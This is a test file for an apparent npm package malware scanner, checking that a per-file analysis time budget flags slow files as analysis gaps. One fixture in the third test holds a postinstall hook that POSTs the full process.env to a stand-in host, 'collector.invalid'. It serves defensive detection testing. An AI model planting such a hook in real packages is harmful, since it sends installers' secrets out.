// Time budget per file (issue 19, finding 4): a file whose lexical and parse tiers run out of time
// is reported as a `too-slow` analysis gap, and a package with one is never clean.
import { describe, expect, it } from 'vitest';
import { analyzePackage, DEFAULT_ENGINE_OPTIONS } from '../src/engine/run/analyze.js';
import { scoreFindings } from '../src/score/score.js';
import { RULES } from '../heuristics/index.js';
import { packageFromFiles, manifest } from './helpers/analyze.js';

const files = {
  'package.json': manifest(),
  'index.js': "const fs = require('fs');\nmodule.exports = (p) => fs.readFileSync(p, 'utf8').split('\\n').map((l) => l.trim());\n",
  'big.min.js': 'var a=' + Array.from({ length: 2000 }, (_, i) => `function f${i}(x){return x+${i}}`).join(';var b=') + ';\n',
};

describe('file time budget', () => {
  it('a budget of 0 ms: every code file is a too-slow analysis gap, and the package is not clean', () => {
    const a = analyzePackage(packageFromFiles(files), RULES, { ...DEFAULT_ENGINE_OPTIONS, fileBudgetMs: 0 });
    const slow = a.findings.filter((f) => f.rule === 'too-slow');
    expect(slow.map((f) => f.file).sort()).toEqual(['big.min.js', 'index.js']);
    expect(slow.every((f) => f.signals?.includes('analysis-gap'))).toBe(true);
    const s = scoreFindings(a.findings);
    expect(s.verdict).not.toBe('clean');
    expect(s.reasons.join(' ')).toMatch(/not fully analyzed/);
  });

  it('the default budget: no gap on ordinary code, and the same package is clean', () => {
    const a = analyzePackage(packageFromFiles(files), RULES);
    expect(a.findings.filter((f) => f.rule === 'too-slow')).toEqual([]);
    expect(scoreFindings(a.findings).verdict).toBe('clean');
  });

  it('a generous budget leaves verdicts as they were', () => {
    // Budget large enough for the (tiny) file: the verdict comes from the findings as before.
    const evil = { 'package.json': manifest({ scripts: { postinstall: 'node i.js' } }), 'i.js': "require('https').request('https://collector.invalid/c',{method:'POST'}).end(JSON.stringify(process.env));\n" };
    const a = analyzePackage(packageFromFiles(evil), RULES, { ...DEFAULT_ENGINE_OPTIONS, fileBudgetMs: 60_000 });
    expect(scoreFindings(a.findings).verdict).toBe('malicious');
  });
});
